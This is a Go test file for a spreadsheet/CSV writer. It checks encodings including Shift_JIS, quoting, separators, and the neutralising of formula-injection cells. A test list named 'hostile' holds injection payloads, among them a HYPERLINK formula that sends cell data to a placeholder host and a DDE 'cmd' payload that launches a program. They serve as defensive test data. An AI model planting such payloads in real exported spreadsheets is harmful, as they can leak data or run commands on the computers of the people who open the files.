package sheet_test

import (
	"bytes"
	"slices"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/engawa/engawa/internal/transfer/sheet"
)

func write(t testing.TB, o sheet.WriterOptions, rows ...[]string) (text string, replaced int, err error) {
	t.Helper()
	var b bytes.Buffer
	w, err := sheet.NewWriter(&b, o)
	if err != nil {
		return "", 0, err
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			return "", 0, err
		}
	}
	err = w.Flush()
	return b.String(), w.Replaced(), err
}

func TestWriter(t *testing.T) {
	for _, tc := range []struct {
		what string
		o    sheet.WriterOptions
		row  []string
		want string
	}{
		{"as Excel likes it", sheet.WriterOptions{}, []string{"a", "秋田"}, "\ufeffa,秋田\r\n"},
		{"plain", sheet.WriterOptions{Encoding: sheet.UTF8}, []string{"a", "", "b"}, "a,,b\r\n"},
		{"quotes", sheet.WriterOptions{Encoding: sheet.UTF8}, []string{`say "hi"`, "a,b", "x\ny", " z"}, "\"say \"\"hi\"\"\",\"a,b\",\"x\ny\",\" z\"\r\n"},
		{"other separators", sheet.WriterOptions{Encoding: sheet.UTF8, Separator: "\t"}, []string{"a", "b;c", "d|e"}, "a\t\"b;c\"\t\"d|e\"\r\n"},
		{"one empty cell", sheet.WriterOptions{Encoding: sheet.UTF8}, []string{""}, "\"\"\r\n"},
		{"formulas", sheet.WriterOptions{Encoding: sheet.UTF8}, []string{"=1+1", "-5", "@x", "a"}, "'=1+1,-5,'@x,a\r\n"},
		{"raw", sheet.WriterOptions{Encoding: sheet.UTF8, Raw: true}, []string{"=1+1"}, "=1+1\r\n"},
	} {
		if got, _, err := write(t, tc.o, tc.row); got != tc.want || err != nil {
			t.Errorf("%s: got %q, %v", tc.what, got, err)
		}
	}
	if _, _, err := write(t, sheet.WriterOptions{Encoding: sheet.EUCJP}); keyOf(err) != "encodingUnknown" {
		t.Errorf("EUC-JP: %v", err)
	}
	if _, _, err := write(t, sheet.WriterOptions{Separator: "x"}); keyOf(err) != "separatorUnknown" {
		t.Errorf("separator x: %v", err)
	}
}

func TestShiftJISWritesWhatItCan(t *testing.T) {
	const text = "〜−—髙①ﾊﾝ¥😀한"
	for _, tc := range []struct {
		u        sheet.Unwritable
		want     string
		replaced int
	}{
		{sheet.Geta, "～－―髙①ﾊﾝ￥〓〓\r\n", 2},
		{sheet.Reference, "～－―髙①ﾊﾝ￥&#128512;&#54620;\r\n", 2},
	} {
		got, replaced, err := write(t, sheet.WriterOptions{Encoding: sheet.ShiftJIS, Unwritable: tc.u}, []string{text})
		if err != nil {
			t.Fatal(err)
		}
		back, err := japanese.ShiftJIS.NewDecoder().String(got)
		if back != tc.want || replaced != tc.replaced || err != nil {
			t.Errorf("%q: got %q, %d replaced, %v", tc.u, back, replaced, err)
		}
	}
	if _, _, err := write(t, sheet.WriterOptions{Encoding: sheet.ShiftJIS, Unwritable: sheet.Refuse}, []string{text}); keyOf(err) != "unwritable" {
		t.Errorf("refuse: %v", err)
	}
}

// hostile are cells that a spreadsheet would run, or take for more than one, and harmless ones like them.
var hostile = []string{
	"=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", " =1", "　=1", "'=1", "''=1", "'-5", "' =1",
	`=HYPERLINK("http://x.example/?"&A1,"click")`, "=cmd|' /C calc'!A0", "x;=1+1", "x,=1+1", "x\t=1+1", `x";=1+1`, `";=1+1`, `"=1`, "a|@x", "x;'=1", "x,-1+2",
	"-5", "-1,234.5", "-0.5", "-5-5", "-", "+81-3-1234-5678", "5-3", "a=b", "'tis", "'", "", " ", "a@b.jp", "東京,-大阪", "\t", "\n- item\n- item", "=", "x,=", "a,'b'",
}

// unseenBefore are formulas behind what does not show. Shift_JIS does not have all of it.
var unseenBefore = []string{"\u00a0=1", "\ufeff=1", "\u200b\u2003＝1", "\v=1", "\x01@x", "\u2028-1+1", "\u00ad+1"}

func TestFormulasAreNeutralisedAndComeBack(t *testing.T) {
	for _, cell := range slices.Concat(hostile, unseenBefore) {
		if back := sheet.Restore(sheet.Neutralise(cell)); back != cell {
			t.Errorf("%q: neutralised %q, restored %q", cell, sheet.Neutralise(cell), back)
		}
	}
	for _, harmless := range []string{"-5", "-0.5", "-1,234.5", "5-3", "a=b", "'tis", "'", "", "a@b.jp", "a,'b'"} {
		if got := sheet.Neutralise(harmless); got != harmless {
			t.Errorf("%q became %q", harmless, got)
		}
	}
	for cell, want := range map[string]string{
		"=1+1": "'=1+1", "＝1": "'＝1", "-1+1": "'-1+1", "\t=1": "'\t'=1", "'=1": "''=1", "x;=1": "x;'=1", `x";=1`: `x";'=1`, " =1": " '=1", "\ufeff\u00a0=1": "\ufeff\u00a0'=1", "\u200b-5": "\u200b-5", "\r": "'\r",
		"a\n=1": "a\n'=1", "\n=1": "'\n'=1", "a\r\n+1;x": "a\r\n'+1;x", "5\n-5": "5\n-5",
	} {
		if got := sheet.Neutralise(cell); got != want {
			t.Errorf("%q: got %q, want %q", cell, got, want)
		}
	}
}

func TestWhatIsWrittenIsReadBack(t *testing.T) {
	for _, enc := range []sheet.Encoding{sheet.UTF8, sheet.UTF8BOM, sheet.ShiftJIS} {
		for _, sep := range sheet.Separators {
			var rows [][]string
			cells := hostile
			if enc != sheet.ShiftJIS {
				cells = slices.Concat(hostile, unseenBefore)
			}
			for i, cell := range cells {
				rows = append(rows, []string{cell, "x", cells[(i+7)%len(cells)]})
			}
			text, _, err := write(t, sheet.WriterOptions{Encoding: enc, Separator: sep}, rows...)
			if err != nil {
				t.Fatal(err)
			}
			r := open(t, text, sheet.Options{Encoding: enc, Separator: sep, Header: sheet.HeaderNo, Width: 3})
			for _, want := range rows {
				row, err := r.Next()
				if err != nil || row.Err != nil || !slices.Equal(row.Cells, want) {
					t.Fatalf("%s %q: got %q, want %q (%v, %v)", enc, sep, row.Cells, want, row.Err, err)
				}
			}
		}
	}
}
